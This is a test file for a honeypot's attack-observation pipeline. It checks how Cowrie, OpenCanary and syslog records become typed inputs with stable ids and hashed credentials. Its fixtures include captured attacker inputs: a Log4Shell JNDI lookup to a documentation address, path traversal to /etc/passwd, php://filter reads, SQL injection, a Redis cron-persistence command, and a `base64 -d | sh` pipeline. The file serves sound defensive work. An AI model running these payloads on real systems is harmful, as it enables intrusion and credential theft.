/**
 * Input sources (ttp.md §1.3–§1.5, CORRECTIONS #7.10, #7.13, #9.5): log rows, journal rows
 * and bus events projected into inputs — every kind from realistic rows and payloads, the
 * §1.5 ids, and the one that matters most: a command read from its `logs` row and from
 * `attacker.session.ended`, both made by ingest's real path, has one id.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterEach, describe, expect, it } from 'vitest';
import { silentLogger, systemClock } from '../../src/bus/index.js';
import type { JournalRow, LogRow } from '../../src/db/index.js';
import { ingestFile } from '../../src/ingest/index.js';
import { inputId, inputSchema, inputsFromBusEvent, inputsFromJournalRow, inputsFromLogRow, type Input, type Projected } from '../../src/ttp/index.js';
import { harness, type Harness } from '../ingest/support.js';
import { REPO } from '../support/cli.js';
import {
  ATTACKER_UUID,
  busEvent,
  CANARY_TOPIC,
  canaryTriggered,
  emailReceived,
  fingerprinted,
  IDENTITY_UUID,
  identityFormed,
  intelEnriched,
  IP,
  journalRow,
  logRow,
  reuseDetected,
  sessionEnded,
  sha256,
  sortedJson,
  specId,
  T0,
  without,
} from './source-fixtures.js';

const GOLDEN = 'command:ae968e9a7058b4a53b8a75243a1bd609';

/** The inputs of a projection that must have no problems. */
function clean(r: Projected): Input[] {
  expect(r.problems).toEqual([]);
  return r.inputs;
}

function only(r: Projected): Input {
  const inputs = clean(r);
  expect(inputs).toHaveLength(1);
  return inputs[0] as Input;
}

describe('log rows (§1.3)', () => {
  it('a command row: the golden id, programs, provenance, no session id', () => {
    const i = only(inputsFromLogRow(logRow()));
    expect(i).toMatchObject({ kind: 'command', id: GOLDEN, ts: Date.parse(T0), ts_text: T0, attacker_ip: IP, decky: 'decky-01', service: 'ssh', command_text: 'cat /etc/shadow', programs: ['cat'], source: { type: 'log', ref: 17 } });
    expect(i.session_id).toBeUndefined();
    expect(inputSchema('command').safeParse(i).success).toBe(true);
  });

  it.each(['command', 'exec', 'shell_input', 'input', 'execute', 'run', 'redis_command', 'sql_query'])('event_type %s gives a command', (eventType) => {
    expect(only(inputsFromLogRow(logRow({ eventType }))).kind).toBe('command');
  });

  it('rows of other event types give no command', () => {
    expect(clean(inputsFromLogRow(logRow({ eventType: 'connect' })))).toEqual([]);
    expect(clean(inputsFromLogRow(logRow({ eventType: 'session_recorded', fields: { sid: 's', duration_s: '3' } })))).toEqual([]);
  });

  it('command text: fields.command, else cmd and args (redis), else the message', () => {
    expect(only(inputsFromLogRow(logRow({ eventType: 'command', service: 'redis', fields: { cmd: 'CONFIG', args: 'SET dir /var/spool/cron' } }))).command_text).toBe('CONFIG SET dir /var/spool/cron');
    expect(only(inputsFromLogRow(logRow({ eventType: 'sql_query', service: 'mysql', fields: {}, msg: 'SELECT user()' }))).command_text).toBe('SELECT user()');
  });

  it('an RFC 5424 CMD row keeps uid, user, src, pwd; a failed Cowrie command its outcome', () => {
    const i = only(inputsFromLogRow(logRow({ fields: { uid: '0', user: 'root', src: 'tty', pwd: '/root', command: 'id' } })));
    expect(i).toMatchObject({ uid: '0', user: 'root', src: 'tty', pwd: '/root', command_text: 'id', programs: ['id'] });
    expect(only(inputsFromLogRow(logRow({ fields: { command: 'nmap', outcome: 'failed' } }))).outcome).toBe('failure');
  });

  it('times through canonicalTimestamp, addresses through normalizeIp', () => {
    const i = only(inputsFromLogRow(logRow({ timestamp: '2026-05-01 14:00:00.5+02:00', attackerIp: '::FFFF:198.51.100.23' })));
    expect(i.ts_text).toBe('2026-05-01T12:00:00.500000Z');
    expect(i.attacker_ip).toBe(IP);
    expect(only(inputsFromLogRow(logRow({ attackerIp: '2001:0DB8:0000:0000:0000:0000:0000:0001' }))).attacker_ip).toBe('2001:db8::1');
  });

  const request = (fields: Record<string, string>): LogRow => logRow({ id: 40, service: 'http', decky: 'decky-03', eventType: 'request', attackerIp: '203.0.113.7', fields });

  it('a request row gives an http_request', () => {
    const headers = JSON.stringify({ Host: '10.0.1.13', 'User-Agent': '${jndi:ldap://203.0.113.7:1389/Exploit}', Accept: '*/*', accept: 'text/html' });
    const i = only(inputsFromLogRow(request({ method: 'GET', path: '/index.php?page=php://filter/resource=config.php', user_agent: 'ignored: the header wins', headers, body: 'x'.repeat(600) })));
    expect(i).toMatchObject({
      kind: 'http_request',
      method: 'GET',
      path: '/index.php',
      query: 'page=php://filter/resource=config.php',
      url: '/index.php?page=php://filter/resource=config.php',
      headers: { host: '10.0.1.13', 'user-agent': '${jndi:ldap://203.0.113.7:1389/Exploit}', accept: '*/*, text/html' },
      header_values: '10.0.1.13\n${jndi:ldap://203.0.113.7:1389/Exploit}\n*/*, text/html',
      user_agent: '${jndi:ldap://203.0.113.7:1389/Exploit}',
      host: '10.0.1.13',
      source: { type: 'log', ref: 40 },
    });
    expect(i.body).toBe('x'.repeat(512));
    expect(i.id).toBe(specId('http_request', '203.0.113.7', 'decky-03', 'http', T0, 'GET', '/index.php?page=php://filter/resource=config.php'));
  });

  it('without headers: url or uri for the path, the field User-Agent, host from hostname; invalid headers JSON is {}', () => {
    const i = only(inputsFromLogRow(request({ uri: '/robots.txt', useragent: 'Googlebot/2.1', hostname: 'nas.local', headers: '{not json' })));
    expect(i).toMatchObject({ path: '/robots.txt', query: null, url: '/robots.txt', headers: {}, header_values: 'Googlebot/2.1', user_agent: 'Googlebot/2.1', host: 'nas.local' });
    expect(only(inputsFromLogRow(request({ url: '/a?b' }))).url).toBe('/a?b');
  });

  it('a login row gives an auth_attempt with the stored hash and no secret', () => {
    const fields = { principal: 'root', password: '[redacted]', secret_kind: 'plaintext', secret_sha256: sha256('toor'), outcome: 'success', session: 's' };
    const i = only(inputsFromLogRow(logRow({ eventType: 'login_attempt', fields })));
    expect(i).toMatchObject({ kind: 'auth_attempt', username: 'root', password_sha256: sha256('toor'), secret_kind: 'plaintext', outcome: 'success' });
    expect(JSON.stringify(i)).not.toContain('toor');
    expect(i.password).toBeUndefined();
    expect(i.id).toBe(specId('auth_attempt', IP, 'decky-01', 'ssh', T0, 'root', sha256('toor'), 'success'));
  });

  it('auth_attempt: username falls back to fields.username, outcome normalised, unknown when absent', () => {
    const row = (fields: Record<string, string>): Input => only(inputsFromLogRow(logRow({ eventType: 'login_attempt', fields })));
    expect(row({ username: 'admin', secret_sha256: 'e3', outcome: 'denied' })).toMatchObject({ username: 'admin', outcome: 'failure' });
    expect(row({ principal: 'root', secret_sha256: 'e3', outcome: 'ok' }).outcome).toBe('success');
    expect(row({ principal: 'root', secret_sha256: 'e3' }).outcome).toBe('unknown');
  });

  it('a stored plaintext (DECNET_STORE_PLAINTEXT_CREDENTIALS) is hashed, never kept; a redacted one is not hashed', () => {
    const plain = only(inputsFromLogRow(logRow({ eventType: 'login_attempt', fields: { username: 'root', password: 'xc3511' } })));
    expect(plain.password_sha256).toBe(sha256('xc3511'));
    expect(JSON.stringify(plain)).not.toContain('xc3511');
    expect(only(inputsFromLogRow(logRow({ eventType: 'login_attempt', fields: { username: 'root', password: '[redacted]' } }))).password_sha256).toBeNull();
  });

  it('a request with credentials gives an http_request and an auth_attempt, each with its own id', () => {
    const inputs = clean(inputsFromLogRow(request({ method: 'POST', path: '/manager/html', principal: 'tomcat', secret_kind: 'plaintext', secret_sha256: sha256('s3cret'), outcome: 'failure' })));
    expect(inputs.map((i) => i.kind)).toEqual(['http_request', 'auth_attempt']);
    expect(inputs[1]).toMatchObject({ username: 'tomcat', password_sha256: sha256('s3cret'), outcome: 'failure', service: 'http' });
    expect(new Set(inputs.map((i) => i.id)).size).toBe(2);
  });

  it('internal sources and internal deckies give nothing, and are no problem', () => {
    expect(inputsFromLogRow(logRow({ source: 'internal:mutator' }))).toEqual({ inputs: [], problems: [] });
    expect(inputsFromLogRow(logRow({ decky: 'decnet-prober' }))).toEqual({ inputs: [], problems: [] });
    expect(inputsFromLogRow(logRow({ decky: 'probe-01' }), { internalDeckyPrefix: 'probe-' }).inputs).toEqual([]);
    expect(inputsFromLogRow(logRow({ decky: 'decnet-prober' }), { internalDeckyPrefix: 'probe-' }).inputs).toHaveLength(1);
  });

  it('a row without a readable timestamp gives nothing and one problem', () => {
    expect(inputsFromLogRow(logRow({ timestamp: 'yesterday' }))).toEqual({ inputs: [], problems: [{ source: { type: 'log', ref: 17 }, kind: null, reason: expect.stringContaining('yesterday') }] });
  });

  it('caps matched strings at 4096 characters (DECNET_TTP_MAX_FIELD_CHARS); the id uses the whole text', () => {
    const long = `echo ${'A'.repeat(5000)}`;
    const i = only(inputsFromLogRow(logRow({ fields: { command: long } })));
    expect(i.command_text).toBe(long.slice(0, 4096));
    expect(i.id).toBe(specId('command', IP, 'decky-01', 'ssh', T0, long));
    expect(only(inputsFromLogRow(logRow({ fields: { command: long } }), { maxFieldChars: 100 })).command_text).toHaveLength(100);
  });
});

describe('journal rows (§1.4)', () => {
  const SESSION = 'attacker.session.ended';

  it('attacker.session.ended: one session and one command per entry, with the session id', () => {
    const inputs = clean(inputsFromJournalRow(journalRow(SESSION, sessionEnded({ attacker_uuid: ATTACKER_UUID }))));
    expect(inputs.map((i) => i.kind)).toEqual(['session', 'command', 'command']);
    const [session, uname, shadow] = inputs as [Input, Input, Input];
    expect(session).toMatchObject({ session_id: 'a1b2c3d4e5f6', attacker_uuid: ATTACKER_UUID, attacker_ip: IP, decky: 'decky-01', service: 'ssh', ts_text: '2026-05-01T12:00:31.022490Z', ended_at: '2026-05-01T12:00:31.022490Z', duration_s: 30.9, command_count: 2, commands_truncated: false, source: { type: 'journal', ref: 42 } });
    expect(session.id).toBe(specId('session', 'a1b2c3d4e5f6', IP, 'decky-01', 'ssh', '2026-05-01T12:00:31.022490Z'));
    expect(uname).toMatchObject({ command_text: 'uname -a', programs: ['uname'], session_id: 'a1b2c3d4e5f6', ts_text: '2026-05-01T12:00:12.004871Z' });
    expect(shadow.id).toBe(GOLDEN);
    expect(shadow.id).toBe(only(inputsFromLogRow(logRow())).id);
  });

  it('a session entry with an unreadable ts is left out alone; a payload its schema refuses gives nothing', () => {
    const payload = sessionEnded();
    (payload.commands as Record<string, unknown>[])[0]!.ts = 'soon';
    const r = inputsFromJournalRow(journalRow(SESSION, payload));
    expect(r.inputs.map((i) => i.kind)).toEqual(['session', 'command']);
    expect(r.problems).toEqual([{ source: { type: 'journal', ref: 42 }, kind: 'command', reason: expect.stringContaining('soon') }]);
    const bad = inputsFromJournalRow(journalRow(SESSION, sessionEnded({ commands: 'none' })));
    expect(bad.inputs).toEqual([]);
    expect(bad.problems).toMatchObject([{ kind: null, reason: expect.stringContaining('commands') }]);
  });

  it('a session on an internal decky gives nothing', () => {
    expect(inputsFromJournalRow(journalRow(SESSION, sessionEnded({ decky_id: 'decnet-prober' })))).toEqual({ inputs: [], problems: [] });
  });

  it('email.received: url_hosts without full URLs, extensions lower-case without dot', () => {
    const i = only(inputsFromJournalRow(journalRow('email.received', emailReceived())));
    expect(i).toMatchObject({ kind: 'email', source_id: 31, attacker_ip: '203.0.113.9', decky: 'decky-04', service: 'smtp', subject: 'Invoice overdue', x_mailer: 'PHPMailer 6.8.0', attachment_macros: true, url_hosts: ['login.micros0ft-support.example', '198.51.100.80'], attachment_extensions: ['docm'] });
    expect(i.urls).toBeUndefined();
    expect(JSON.stringify(i)).not.toContain('reset?u=1');
    expect(i.ts_text).toBe('2026-05-01T12:00:00.500000Z');
    expect(i.id).toBe(specId('email', 31));
  });

  it('email.received: a source_id as text (PostgreSQL bigserial) has the id of the number', () => {
    expect(only(inputsFromJournalRow(journalRow('email.received', emailReceived({ source_id: '31' })))).id).toBe(specId('email', 31));
  });

  it('credential.reuse.detected: one credential_reuse per address of attacker_ips', () => {
    const inputs = clean(inputsFromJournalRow(journalRow('credential.reuse.detected', reuseDetected())));
    expect(inputs.map((i) => i.attacker_ip)).toEqual([IP, '2001:db8::1']);
    const finding = '0f1e2d3c-4b5a-4968-8776-a5b4c3d2e1f0';
    for (const i of inputs) {
      expect(i).toMatchObject({ kind: 'credential_reuse', finding_id: finding, secret_kind: 'plaintext', principal: 'root', target_count: 2, attempt_count: 2, attacker_count: 2, deckies: ['decky-01', 'decky-02'], services: ['ssh'], reason: 'new_targets', ts_text: '2026-05-01T12:10:04.882915Z' });
      expect(i.id).toBe(specId('credential_reuse', finding, i.attacker_ip));
      expect(JSON.stringify(i)).not.toContain(sha256('toor'));
    }
  });

  it('credential.reuse.detected: an address that is none is a problem; the others stay', () => {
    const r = inputsFromJournalRow(journalRow('credential.reuse.detected', reuseDetected({ attacker_ips: [IP, 'not-an-ip'] })));
    expect(r.inputs.map((i) => i.attacker_ip)).toEqual([IP]);
    expect(r.problems).toMatchObject([{ kind: 'credential_reuse', reason: expect.stringContaining('not-an-ip') }]);
  });

  it('canary.<token>.triggered gives a canary; placements and revocations nothing', () => {
    const i = only(inputsFromJournalRow(journalRow(CANARY_TOPIC, canaryTriggered())));
    expect(i).toMatchObject({ kind: 'canary', token_id: canaryTriggered().token_id, trigger_id: canaryTriggered().trigger_id, attacker_ip: IP, decky: 'decky-01', user_agent: 'curl/8.4.0', request_path: '/c/3f9a1b', dns_qname: null });
    expect(i.id).toBe(specId('canary', canaryTriggered().trigger_id));
    expect(inputsFromJournalRow(journalRow(CANARY_TOPIC.replace('triggered', 'placed'), { token_id: 'x', decky_name: 'd', placement_path: '/p', instrumenter: null, generator: 'g' }))).toEqual({ inputs: [], problems: [] });
  });

  it('other topics give nothing', () => {
    expect(inputsFromJournalRow(journalRow('credential.captured', { secret_sha256: 'x', secret_kind: 'plaintext', attacker_ip: IP, decky: 'd', service: 's' }))).toEqual({ inputs: [], problems: [] });
  });
});

describe('bus events (§1.4)', () => {
  it('attacker.intel.enriched gives an intel input; its id leaves times out', () => {
    const i = only(inputsFromBusEvent(busEvent('attacker.intel.enriched', intelEnriched())));
    expect(i).toMatchObject({ kind: 'intel', attacker_uuid: ATTACKER_UUID, attacker_ip: IP, aggregate_verdict: 'malicious', abuseipdb_score: 97, abuseipdb_categories: [18, 22], greynoise_tags: ['SSH Bruteforcer', 'Mirai'], feodo_listed: false, provider_verdicts: { abuseipdb: 'malicious', greynoise: 'suspicious' }, source: { type: 'bus', ref: 'b'.repeat(32) } });
    const later = only(inputsFromBusEvent(busEvent('attacker.intel.enriched', intelEnriched({ expires_at: '2026-06-01T00:00:00.000000Z' }), { id: 'c'.repeat(32), ts: 1777700000 })));
    expect(later.id).toBe(i.id);
    expect(only(inputsFromBusEvent(busEvent('attacker.intel.enriched', intelEnriched({ abuseipdb_score: 12 })))).id).not.toBe(i.id);
    // the address is the first element; the uuid (null until resolved) and times are not content
    expect(i.id).toBe(specId('intel', IP, sortedJson(without(intelEnriched(), 'attacker_ip', 'attacker_uuid', 'expires_at'))));
  });

  it('attacker.fingerprinted gives a fingerprint: probe is the payload kind, probe_source its source', () => {
    const i = only(inputsFromBusEvent(busEvent('attacker.fingerprinted', fingerprinted())));
    expect(i).toMatchObject({ kind: 'fingerprint', probe: 'jarm', probe_source: 'active', port: 443, value: fingerprinted().value, jarm_hash: fingerprinted().jarm_hash, attacker_ip: IP, ts_text: '2026-05-01T12:30:00.123456Z', source: { type: 'bus', ref: 'b'.repeat(32) } });
    expect(only(inputsFromBusEvent(busEvent('attacker.fingerprinted', fingerprinted({ observed_at: '2026-05-02T00:00:00.000000Z' })))).id).toBe(i.id);
    expect(only(inputsFromBusEvent(busEvent('attacker.fingerprinted', fingerprinted({ kind: 'ja3' })))).id).not.toBe(i.id);
    const { kind, source, ...rest } = without(fingerprinted(), 'attacker_ip', 'attacker_uuid', 'observed_at');
    expect(i.id).toBe(specId('fingerprint', IP, sortedJson({ ...rest, probe: kind, probe_source: source })));
  });

  it('identity.formed and identity.merged give identity inputs with identity_uuid and no address', () => {
    const formed = only(inputsFromBusEvent(busEvent('identity.formed', identityFormed())));
    expect(formed).toMatchObject({ kind: 'identity', event: 'formed', identity_uuid: IDENTITY_UUID, member_count: 3, attacker_ip: null });
    const winner = '44444444-4444-4444-8444-444444444444';
    const merged = only(inputsFromBusEvent(busEvent('identity.merged', { winner_uuid: winner, loser_uuid: IDENTITY_UUID })));
    expect(merged).toMatchObject({ kind: 'identity', event: 'merged', identity_uuid: winner, attacker_ip: null });
    expect(formed.id).toBe(specId('identity', IDENTITY_UUID, sortedJson(without(identityFormed(), 'identity_uuid'))));
    expect(merged.id).toBe(specId('identity', winner, sortedJson({ winner_uuid: winner, loser_uuid: IDENTITY_UUID })));
  });

  it('journaled topics and other topics give nothing live; a malformed payload one problem', () => {
    expect(inputsFromBusEvent(busEvent('attacker.session.ended', sessionEnded()))).toEqual({ inputs: [], problems: [] });
    expect(inputsFromBusEvent(busEvent('attacker.observed', { attacker_ip: IP }))).toEqual({ inputs: [], problems: [] });
    const bad = inputsFromBusEvent(busEvent('attacker.fingerprinted', fingerprinted({ port: 'https' })));
    expect(bad.inputs).toEqual([]);
    expect(bad.problems).toMatchObject([{ source: { type: 'bus', ref: 'b'.repeat(32) }, kind: null, reason: expect.stringContaining('port') }]);
  });
});

describe('ids (§1.5)', () => {
  it('a pinned id per kind, from the realistic rows and payloads', () => {
    const ids: Record<string, string> = {};
    const first = (r: Projected): void => {
      for (const i of clean(r)) ids[i.kind] ??= i.id;
    };
    first(inputsFromLogRow(logRow()));
    first(inputsFromLogRow(logRow({ id: 40, service: 'http', decky: 'decky-03', eventType: 'request', attackerIp: '203.0.113.7', fields: { method: 'POST', path: '/manager/html', principal: 'tomcat', secret_kind: 'plaintext', secret_sha256: sha256('s3cret'), outcome: 'failure' } })));
    first(inputsFromJournalRow(journalRow('attacker.session.ended', sessionEnded())));
    first(inputsFromJournalRow(journalRow('email.received', emailReceived())));
    first(inputsFromJournalRow(journalRow('credential.reuse.detected', reuseDetected())));
    first(inputsFromJournalRow(journalRow(CANARY_TOPIC, canaryTriggered())));
    first(inputsFromBusEvent(busEvent('attacker.intel.enriched', intelEnriched())));
    first(inputsFromBusEvent(busEvent('attacker.fingerprinted', fingerprinted())));
    first(inputsFromBusEvent(busEvent('identity.formed', identityFormed())));
    expect(ids).toEqual({
      command: GOLDEN,
      http_request: 'http_request:37bf496150a4feb6eceb29c62b2b318c',
      auth_attempt: 'auth_attempt:e2ca2ea7556130634a1c9e9994d1154f',
      session: 'session:fdf4680451ccc71ff4c5ff310a8dac2c',
      email: 'email:e6ba667503ab2e925ca03d71ffd1a992',
      credential_reuse: 'credential_reuse:45471efb322612f9ea074402a87181bb',
      canary: 'canary:557737f58ae6fdb7df08129af5b11624',
      intel: 'intel:e98d7b0886b8ad4a225d459c72105ddf',
      fingerprint: 'fingerprint:74bdad22858d04603bcf112836f92504',
      identity: 'identity:0a2811beb234d89c2cb4f2c795c216fd',
    });
  });
});

describe('ingest’s real path: log rows and attacker.session.ended agree (§1.5)', () => {
  let h: Harness | undefined;
  afterEach(async () => {
    await h?.close();
    h = undefined;
  });

  async function feed(file: string, format: 'rfc5424' | 'cowrie' | 'opencanary'): Promise<{ logs: Input[]; journal: JournalRow[] }> {
    h ??= await harness();
    await ingestFile({ db: h.db, bus: h.bus, config: h.config(), log: silentLogger, clock: systemClock, signal: new AbortController().signal }, { file, format, follow: false, fromStart: false });
    const logs = (await h.db.repos.logs.readAfter(0, 1000)).flatMap((row) => clean(inputsFromLogRow(row)));
    return { logs, journal: await h.db.repos.journal.readAfter(0, { limit: 1000 }) };
  }

  const commandIds = (inputs: readonly Input[]): string[] => inputs.filter((i) => i.kind === 'command').map((i) => i.id);

  it('examples/cowrie.json: each session entry has its log row’s command id; logins hash as credential.captured', async () => {
    const { logs, journal } = await feed(join(REPO, 'examples', 'cowrie.json'), 'cowrie');
    const ended = journal.filter((j) => j.topic === 'attacker.session.ended');
    const fromSession = ended.flatMap((j) => clean(inputsFromJournalRow(j)));
    expect(commandIds(logs)).toHaveLength(4);
    expect(commandIds(fromSession)).toEqual(commandIds(logs));
    expect(fromSession.filter((i) => i.kind === 'command').every((i) => i.session_id === 'a1b2c3d4e5f6')).toBe(true);
    expect(logs.filter((i) => i.kind === 'command').map((i) => i.programs)).toEqual([['uname'], ['cat'], ['cd', 'wget', 'chmod', 'bins.sh'], ['crontab', 'echo']]);
    expect(fromSession.filter((i) => i.kind === 'session').map((i) => [i.session_id, i.service, i.command_count])).toEqual([
      ['a1b2c3d4e5f6', 'ssh', 4],
      ['f0e1d2c3b4a5', 'telnet', 0],
    ]);

    const auth = logs.filter((i) => i.kind === 'auth_attempt');
    const captured = journal.filter((j) => j.topic === 'credential.captured').map((j) => j.payload.secret_sha256);
    expect(auth.map((i) => i.password_sha256)).toEqual(captured);
    expect(auth.map((i) => i.password_sha256)).toEqual(['123456', 'password', 'admin', '12345', 'qwerty', 'toor'].map(sha256));
    expect(auth.map((i) => i.outcome)).toEqual(['failure', 'failure', 'failure', 'failure', 'failure', 'success']);
  });

  it('a 5000-character command: capped at 4096 from both sources, one id over the whole text', async () => {
    h = await harness();
    const long = `echo ${'QUFB'.repeat(1249)} | base64 -d | sh`;
    const line = (eventid: string, ts: string, extra: Record<string, unknown>): string => JSON.stringify({ eventid, sensor: 'decky-01', src_ip: IP, session: 'feedc0de', timestamp: ts, message: '', ...extra });
    const file = join(h.home, 'long.json');
    writeFileSync(file, [line('cowrie.session.connect', '2026-05-01T12:00:00.000001Z', { protocol: 'ssh' }), line('cowrie.command.input', '2026-05-01T12:00:01.5+00:00', { input: long }), line('cowrie.session.closed', '2026-05-01T12:00:02Z', { duration: 2 })].join('\n') + '\n');
    const { logs, journal } = await feed(file, 'cowrie');
    const fromSession = journal.filter((j) => j.topic === 'attacker.session.ended').flatMap((j) => clean(inputsFromJournalRow(j)));
    const fromLog = logs.filter((i) => i.kind === 'command');
    const entry = fromSession.filter((i) => i.kind === 'command');
    expect(fromLog).toHaveLength(1);
    expect(entry.map((i) => i.id)).toEqual(fromLog.map((i) => i.id));
    expect(fromLog[0]?.id).toBe(specId('command', IP, 'decky-01', 'ssh', '2026-05-01T12:00:01.500000Z', long));
    for (const i of [...fromLog, ...entry]) expect(i.command_text).toBe(long.slice(0, 4096));
  });

  it('examples/rfc5424.log: requests, and the Basic credential as an auth_attempt hashed as credential.captured', async () => {
    const { logs, journal } = await feed(join(REPO, 'examples', 'rfc5424.log'), 'rfc5424');
    const http = logs.filter((i) => i.kind === 'http_request');
    expect(http.map((i) => [i.method, i.url])).toEqual([
      ['GET', '/'],
      ['GET', '/..%2f..%2f..%2fetc/passwd'],
      ['GET', '/index.php?page=php://filter/convert.base64-encode/resource=config.php'],
      ['GET', '/item.php?id=1%27%20AND%201%3D1--%20-'],
      ['GET', '/'],
      ['POST', '/manager/html'],
      ['GET', '/robots.txt'],
    ]);
    expect(http[0]).toMatchObject({ user_agent: '${jndi:ldap://203.0.113.7:1389/Exploit}', host: '10.0.1.13', path: '/', query: null });
    expect(http[0]?.header_values).toContain('${jndi:');
    expect(http[5]?.headers).toMatchObject({ authorization: '[redacted]' });
    const auth = logs.filter((i) => i.kind === 'auth_attempt');
    const captured = journal.find((j) => j.topic === 'credential.captured')?.payload.secret_sha256;
    expect(auth).toMatchObject([{ username: 'tomcat', password_sha256: captured, outcome: 'failure', service: 'http', ts_text: http[5]?.ts_text }]);
    expect(JSON.stringify(logs)).not.toContain('s3cret');
  });

  it('examples/opencanary.json: root/toor with the same hash as on Cowrie, outcome unknown', async () => {
    const { logs } = await feed(join(REPO, 'examples', 'opencanary.json'), 'opencanary');
    const auth = logs.filter((i) => i.kind === 'auth_attempt');
    expect(auth.map((i) => [i.username, i.password_sha256, i.outcome, i.service])).toContainEqual(['root', sha256('toor'), 'unknown', 'ssh']);
    expect(logs.some((i) => i.kind === 'http_request' && i.url === '/robots.txt' && i.user_agent === 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)')).toBe(true);
  });
});

describe('properties', () => {
  const element = fc.oneof(fc.string(), fc.constantFrom('', 'decky-01', 'ssh', 'a"b', 'ü'));
  const tuple = fc.record({
    ip: fc.oneof(fc.ipV4(), fc.constantFrom('2001:db8::1', '2001:db8::2')),
    decky: element,
    service: element,
    ms: fc.integer({ min: 0, max: 4102444800000 }),
    micros: fc.integer({ min: 0, max: 999 }),
    text: fc.string(),
  });
  const row = (t: { ip: string; decky: string; service: string; ms: number; micros: number; text: string }): LogRow =>
    logRow({ attackerIp: t.ip, decky: t.decky, service: t.service, timestamp: `${new Date(t.ms).toISOString().slice(0, 23)}${String(t.micros).padStart(3, '0')}Z`, fields: { command: t.text } });

  it('distinct command inputs get distinct ids, and equal ones the same', () => {
    fc.assert(
      fc.property(tuple, tuple, (a, b) => {
        const x = inputsFromLogRow(row(a)).inputs;
        const y = inputsFromLogRow(row(b)).inputs;
        if (x.length === 0 || y.length === 0) return a.decky.startsWith('decnet-') || b.decky.startsWith('decnet-');
        const same = JSON.stringify(a) === JSON.stringify(b);
        return same === ((x[0] as Input).id === (y[0] as Input).id);
      }),
    );
  });

  it('the id is inputId over the untruncated values', () => {
    fc.assert(
      fc.property(tuple, (t) => {
        fc.pre(!t.decky.startsWith('decnet-'));
        const i = inputsFromLogRow(row(t)).inputs[0] as Input;
        return i.id === inputId('command', { attacker_ip: t.ip, decky: t.decky, service: t.service, ts_text: i.ts_text, command_text: t.text });
      }),
    );
  });

  const anyFields = fc.dictionary(fc.constantFrom('command', 'cmd', 'args', 'path', 'url', 'headers', 'principal', 'username', 'password', 'secret_sha256', 'outcome', 'body', 'uid', '__proto__', 'hostname'), fc.anything());
  const anyRow = fc.record({
    id: fc.oneof(fc.integer(), fc.anything()),
    timestamp: fc.oneof(fc.constant(T0), fc.string(), fc.anything()),
    decky: fc.oneof(fc.constant('decky-01'), fc.string(), fc.anything()),
    service: fc.oneof(fc.string(), fc.anything()),
    eventType: fc.constantFrom('command', 'request', 'login_attempt', 'redis_command', 'connect', null),
    attackerIp: fc.oneof(fc.constant(IP), fc.string(), fc.anything()),
    fields: fc.oneof(anyFields, fc.anything(), fc.json()),
    msg: fc.oneof(fc.string(), fc.anything()),
    source: fc.oneof(fc.constant('file:/x'), fc.anything()),
  });

  function valid(r: Projected): boolean {
    return r.inputs.every((i) => inputSchema(i.kind).safeParse(i).success);
  }

  it('log rows: never throws on arbitrary values, and every input it gives passes its schema', () => {
    fc.assert(fc.property(anyRow, (r) => valid(inputsFromLogRow(r as unknown as LogRow))));
  });

  const topic = fc.constantFrom('attacker.session.ended', 'email.received', 'credential.reuse.detected', CANARY_TOPIC, 'attacker.intel.enriched', 'attacker.fingerprinted', 'identity.formed', 'identity.merged');
  const realistic: Record<string, () => Record<string, unknown>> = {
    'attacker.session.ended': sessionEnded,
    'email.received': emailReceived,
    'credential.reuse.detected': reuseDetected,
    [CANARY_TOPIC]: canaryTriggered,
    'attacker.intel.enriched': intelEnriched,
    'attacker.fingerprinted': fingerprinted,
    'identity.formed': identityFormed,
    'identity.merged': () => ({ winner_uuid: IDENTITY_UUID, loser_uuid: ATTACKER_UUID }),
  };
  /** A realistic payload with some fields replaced by arbitrary values, or anything at all. */
  const payloadFor = (t: string): fc.Arbitrary<unknown> =>
    fc.oneof(
      fc.dictionary(fc.constantFrom(...Object.keys((realistic[t] as () => Record<string, unknown>)())), fc.anything()).map((over) => ({ ...(realistic[t] as () => Record<string, unknown>)(), ...over })),
      fc.anything(),
    );

  it('journal rows and bus events: never throw on arbitrary payloads, and every input passes its schema', () => {
    fc.assert(
      fc.property(
        topic.chain((t) => fc.tuple(fc.constant(t), payloadFor(t), fc.oneof(fc.double(), fc.anything()))),
        ([t, payload, ts]) => {
          const j = inputsFromJournalRow(journalRow(t, payload as Record<string, unknown>, { ts: ts as number }));
          const b = inputsFromBusEvent(busEvent(t, payload as Record<string, unknown>, { ts: ts as number }));
          return valid(j) && valid(b);
        },
      ),
    );
  });
});
